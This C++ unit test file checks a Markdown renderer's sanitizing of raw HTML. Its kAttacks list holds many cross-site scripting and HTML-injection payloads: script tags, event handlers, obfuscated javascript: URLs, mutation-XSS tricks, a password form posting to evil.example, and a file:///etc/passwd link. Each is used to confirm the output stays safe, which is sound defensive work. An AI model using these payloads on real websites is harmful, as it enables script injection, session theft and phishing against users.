// Raw HTML in Markdown: what people write stays, and nothing else comes out, whatever is put in.
#include "markup/given_context.hpp"
#include "markup/render.hpp"
#include "support/processor_time.hpp"
#include "tests/fuzz/targets/safe_html.hpp"

#include <cppunit/TestFixture.h>
#include <cppunit/extensions/HelperMacros.h>
#include <string>
#include <vector>

namespace trivet::markup {
namespace {

std::string plain(std::string_view text) { return render(text, {}); }

std::string repeated(std::string_view unit, std::size_t bytes)
{
    std::string text;
    while (text.size() + unit.size() <= bytes)
        text += unit;
    return text;
}

// Each alone, in a paragraph, in a list, in a cell and in a heading.
std::vector<std::string> placesFor(const std::string& html)
{
    return {html,        "a " + html + " b",         "- " + html, "|a|\n|-|\n|" + html + "|",
            "# " + html, "> " + html + "\n\n" + html};
}

constexpr const char* kAttacks[] = {
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script",
    "<script>",
    "</script>",
    "<style>*{display:none}</style>",
    "<style>",
    "<p style=\"position:fixed;inset:0\">x</p>",
    "<p onclick=\"alert(1)\" onmouseover=alert(1)>x</p>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<img src=x onerror=alert(1)>",
    "<img/src=\"https://e.example/x\"/onerror=alert(1)>",
    "<img src='https://e.example/x'onerror=alert(1)>",
    "<img src=\"https://e.example/`\" alt=\"` onerror=alert(1) \">",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=\"javascript:alert(1)\">",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img srcset=\"javascript:alert(1) 1x\">",
    "<picture><source srcset=\"https://e.example/a 1x, javascript:alert(1) 2x\"><img "
    "src=https://e.example/a></picture>",
    "<source srcset=\"https://e.example/a\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" &#14;  javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#9;script:alert(1)\">x</a>",
    "<a href=\"java&#x0A;script:alert(1)\">x</a>",
    "<a href=\"java&Tab;script&colon;alert(1)\">x</a>",
    "<a href=\"&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
    "<a href=\"javascript&#0000058;alert(1)\">x</a>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"vbscript:x\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"/\\evil.example\">x</a>",
    "<a href=\"https:evil.example\">x</a>",
    "<a href=\"https://e.example/\"onclick=\"alert(1)\">x</a>",
    "<a href=\"https://e.example\" target=_blank rel=opener>x</a>",
    "<a href=\"https://e.example/?&quot;onclick=&quot;alert(1)\">x</a>",
    "<a href='https://e.example/\"><script>alert(1)</script>'>x</a>",
    "<a href=\"https://e.example\"><a href=\"javascript:alert(1)\">x</a></a>",
    "<a href=\"https://e.example\"><div><a href=\"https://e.example\">x</a></div></a>",
    "<iframe src=\"https://e.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=x></object><embed src=x><applet code=x></applet>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
    "<form action=\"https://evil.example\"><input name=password><button>Sign in</button></form>",
    "<form><form></form><input type=submit formaction=javascript:alert(1)></form>",
    "<button form=sign-out>x</button>",
    "<input type=\"image\" src=x onerror=alert(1)>",
    "<select><option>x</option></select><textarea></textarea>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>",
    "<template><script>alert(1)</script></template>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<frameset onload=alert(1)><frame src=x></frameset>",
    "<body onload=alert(1)>",
    "<html><head></head><body></body></html>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--><script>alert(1)</script>-->",
    "<!---><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<!-- <p>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><?php echo 1 ?>",
    "<!DOCTYPE html><!ENTITY x>",
    "<img id=cookie name=body><a id=location name=forms>x</a>",
    "<form id=x><input id=attributes></form>",
    "<div id=\"menu\" class=\"site-header\" role=alert aria-hidden=true tabindex=1 hidden>x</div>",
    "<div contenteditable accesskey=x draggable=true slot=x is=y itemscope>x</div>",
    "<p data-copy=\"x\" data-action=\"/logout\">x</p>",
    "<b><p><i></b>x</i></p>",
    "<p><div></p></div>",
    "</div></div></main></body></html>",
    "</p></li></ul></td></tr></table></details></article>",
    "<li>x",
    "<li><li></li></ul>",
    "<dd>x<dt>y",
    "<ul><p><li>x</ul></p>",
    "<td>x</td><tr><th>",
    "<table><p>x</p><tr><p>y</p><td>z</table>",
    "<table><table><tr><td><table><td></table></td></tr></table>",
    "<table><tr><td><li></td></tr></table>",
    "<table><b><tr><i><td></b>x</i></table>",
    "<h1><h2>x</h1></h2>",
    "<h1><div><h2>x</h2></div></h1>",
    "<ruby><p><rt>x</ruby>",
    "<rt>x</rt>",
    "<p title=\"unclosed",
    "<p title='",
    "<p a=\"1\" =\"2\" =>",
    "<",
    "</",
    "<p/",
    "<p / / />",
    "<p\f\ronclick\n=\nalert(1)>x</p>",
    "<P TITLE=&quot;&lt;script&gt;>x</P>",
    "<p title=\"&\" lang=\"de\" dir=sideways>&nbsp; &copy &#0; &#x110000; &bogus; &<</p>",
    "<img src=https://e.example/a width=\"100%;x\" height=99999999 align=\"left\" alt=\"<>&quot;'\">",
    "<td colspan=100000>",
    "<ol start=-1 type=x><li value=x></ol>",
    "<font color=red size=7><marquee behavior=alternate><blink>x</blink></marquee></font>",
    "<video src=x onerror=alert(1)><audio src=x></audio></video>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<details><summary><details><summary></details>",
    "\xef\xbb\xbf<p>\xc3<script>\xff</p>",
    "<p\xc2\xa0onclick=alert(1)>x</p>",
    "<ｓcript>alert(1)</ｓcript>",
};

} // namespace

class RawHtmlTest : public CppUnit::TestFixture {
    CPPUNIT_TEST_SUITE(RawHtmlTest);
    CPPUNIT_TEST(whatPeopleWriteStays);
    CPPUNIT_TEST(markdownStandsInHtml);
    CPPUNIT_TEST(whatIsLeftOpenIsClosed);
    CPPUNIT_TEST(addressesAreThoseOfLinks);
    CPPUNIT_TEST(namesHaveAPrefix);
    CPPUNIT_TEST(whatRunsIsLeftOut);
    CPPUNIT_TEST(attacksDoNothing);
    CPPUNIT_TEST(whatIsMadeToCostMuchDoesNot);
    CPPUNIT_TEST_SUITE_END();

    static void same(const std::string& expected, const std::string& actual)
    {
        CPPUNIT_ASSERT_EQUAL(expected, actual);
        CPPUNIT_ASSERT_EQUAL(std::string(), fuzz::problemWith(actual));
    }

    void whatPeopleWriteStays()
    {
        same("<p>H<sub>2</sub>O, <kbd>Ctrl</kbd>+<kbd>C</kbd>, <ins>a</ins><br>b © ©</p>\n",
             plain("H<sub>2</sub>O, <kbd>Ctrl</kbd>+<kbd>C</kbd>, <ins>a</ins><br/>b &copy; &#169;"));
        same("<h1 class=\"align-center\">a<br>b</h1>\n", plain("<h1 ALIGN=center>a<br>b</h1>\n"));
        same("<p class=\"align-center\">\n<img src=\"https://e.example/i\" alt=\"\" width=\"100\">\n</p>\n",
             plain("<p align=\"center\">\n<img width=100px src=https://e.example/i>\n</p>\n"));
        same("<div class=\"align-center\">a</div>\n", plain("<center>a</center>\n"));
        same("<div>a</div>\n", plain("<div align=\"left center\" dir=\"ltr rtl\">a</div>\n"));
        same("<table>\n<tr><td class=\"align-right\" colspan=\"2\">a</td><td>b</td></tr>\n</table>\n",
             plain("<table>\n<tr><td colspan=2 align=right>a<td>b</tr>\n</table>\n"));
        same("<picture>\n<source media=\"(prefers-color-scheme: dark)\" srcset=\"https://e.example/d 2x\">\n"
             "<img src=\"https://e.example/l\" alt=\"x\">\n</picture>\n",
             plain("<picture>\n<source media='(prefers-color-scheme:dark)' srcset='https://e.example/d 2x'>\n"
                   "<img alt=x src=https://e.example/l>\n</picture>\n"));
        same("<p>a  b</p>\n", plain("a <!-- c --> b"));
    }

    void markdownStandsInHtml()
    {
        same("<details open=\"\">\n<summary>a <b>b</b></summary>\n<ul>\n<li>c</li>\n</ul>\n</details>\n",
             plain("<details open>\n<summary>a <b>b</b></summary>\n\n- c\n\n</details>\n"));
        // Within a line, too, nothing stands between the cells.
        same("<ul>\n<li>x <table> </table><em>a</em></li>\n</ul>\n", plain("- x <table> *a*\n"));
        same("<ul>\n<li>x <table>\n</table><em>a</em></li>\n</ul>\n", plain("- x <table>  \n  *a*\n"));
        same("<ul>\n<li>x <table> <tr><td>a</td></tr></table></li>\n</ul>\n",
             plain("- x <table> <tr><td>a</td></tr></table>\n"));
        same("<table><tr><td>\n<p><strong>a</strong></p>\n</td></tr></table>\n",
             plain("<table><tr><td>\n\n**a**\n\n</td></tr></table>\n"));
        // A paragraph in a paragraph ends it, as in a browser.
        same("<p class=\"align-center\">\n</p><p>a</p>\n\n", plain("<p align=center>\n\na\n\n</p>\n"));
        // In what Markdown emphasizes it cannot, so it is left out there; a heading in a heading likewise.
        same("<ul>\n<li>x <p>a <em>b c</em></p></li>\n</ul>\n", plain("- x <p>a *b <p>c*\n"));
        same("<ul>\n<li>x <h2>a <em>b c</em></h2></li>\n</ul>\n", plain("- x <h2>a *b <h3>c*\n"));
        same("<ul>\n<li>x <em>b <h3>c</h3></em></li>\n</ul>\n", plain("- x *b <h3>c*\n"));
        same("<p><a href=\"https://e.example\" rel=\"nofollow ugc\"><img src=\"https://e.example/i\" "
             "alt=\"a\"></a></p>\n",
             plain("<a href=https://e.example>![a](https://e.example/i)</a>"));
        same("<p><a href=\"https://e.example\" rel=\"nofollow ugc\">a b</a> @c</p>\n",
             render("<a href=https://e.example>[a](https://f.example) <a href=https://g.example>b</a> @c</a>", {}));
    }

    void whatIsLeftOpenIsClosed()
    {
        same("<p><em>a <b>b</b></em> c</p>\n", plain("*a <b>b* c</b>"));
        same("<details>\n<p>a</p>\n</details>", plain("<details>\n\na"));
        same("<ul>\n<li><b>a</b></li>\n<li>b</li>\n</ul>\n", plain("- <b>a\n- b</b></li></ul>"));
        same("<p>a b c</p>\n", plain("a <div>b</div> c"));
    }

    void addressesAreThoseOfLinks()
    {
        const auto context = contextFrom("alice/site/src/branch/main/docs", "https://h.example/");
        same("<p><a href=\"https://h.example/alice/site/src/branch/main/a.md\" rel=\"nofollow ugc\">a</a> "
             "<img src=\"https://h.example/alice/site/media/branch/main/docs/b%20c.png\" alt=\"\"></p>\n",
             render("<a href=\"../a.md\">a</a> <img src='b c.png'>", context));
        same("<div>&copy; &nbsp;&amp;x &lt;</div>\n", plain("<div>&copy; &nbsp;&x <</div>\n"));
    }

    void namesHaveAPrefix()
    {
        same("<p><a id=\"user-content-top\">x</a> <a href=\"#user-content-top\" rel=\"nofollow ugc\">y</a></p>\n",
             plain("<a name=\"top\">x</a> <a href=#top>y</a>"));
        // What is taken is not given again, to headings neither.
        same("<div id=\"user-content-a\"></div><div></div>\n<h1 id=\"user-content-a-1\">a</h1>\n",
             plain("<div id=a></div><div id=a></div>\n\n# a"));
    }

    void whatRunsIsLeftOut()
    {
        same("\n", plain("<script>alert(1)</script>\n"));
        same("<p>a  b</p>\n", plain("a <script>*alert*(1)</script> b"));
        same("<p>a </p>\n<p>b</p>\n", plain("a <script>alert(1)\n\nb"));
        same("\n<p>b</p>\n", plain("<svg>\n<path d=\"M0\"/>\n</svg>\n\nb"));
        same("<p>b a</p>\n", plain("b <form action=x>a</form>"));
        same("<p><b>a</b></p>\n", plain("<b onclick=x STYLE=y class=z>a</b>"));
    }

    void attacksDoNothing()
    {
        const auto context = contextFrom("alice/site/src/branch/main", "https://h.example/");
        for (const std::string attack : kAttacks)
            for (const auto& text : placesFor(attack))
                for (const auto& html : {plain(text), render(text, context)})
                    CPPUNIT_ASSERT_EQUAL_MESSAGE(text + " became " + html, std::string(), fuzz::problemWith(html));
    }

    void whatIsMadeToCostMuchDoesNot()
    {
        const auto start = test::processorMicroseconds();
        for (const char* const unit : {"<b>",
                                       "<p>\n\n",
                                       "<div>\n",
                                       "<table><tr><td>",
                                       "</b>",
                                       "<!--",
                                       "<a href=x",
                                       "<p title=\"",
                                       "<script>",
                                       "<script></script",
                                       "<details>\n\n",
                                       "<li>",
                                       "<ul><li>",
                                       "&#x41;",
                                       "&a",
                                       "<b ",
                                       "<img alt=\"a\" src=b>",
                                       "$a ",
                                       "$$a",
                                       ":a",
                                       "[^a]",
                                       "[^a]: b\n\n[^a]",
                                       "> [!NOTE]\n",
                                       "<a id=a>",
                                       "<p a b c d e f g h>",
                                       "# a\n<h1>\n\n"})
            CPPUNIT_ASSERT_EQUAL_MESSAGE(unit, std::string(), fuzz::problemWith(plain(repeated(unit, 64 * 1024))));
        CPPUNIT_ASSERT_MESSAGE("seconds of a processor", test::processorMicroseconds() - start < 20'000'000);
    }
};
CPPUNIT_TEST_SUITE_NAMED_REGISTRATION(RawHtmlTest, "unit");

} // namespace trivet::markup
